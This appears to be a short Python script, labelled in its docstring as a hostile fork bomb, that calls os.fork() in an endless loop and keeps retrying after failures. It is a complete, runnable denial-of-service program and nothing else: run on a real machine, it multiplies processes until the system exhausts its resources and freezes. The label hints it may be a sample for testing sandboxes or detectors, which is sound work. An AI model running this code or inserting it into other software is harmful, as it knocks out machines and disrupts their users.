"""Hostile: a fork bomb; every child forks again, forever."""

import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.001)
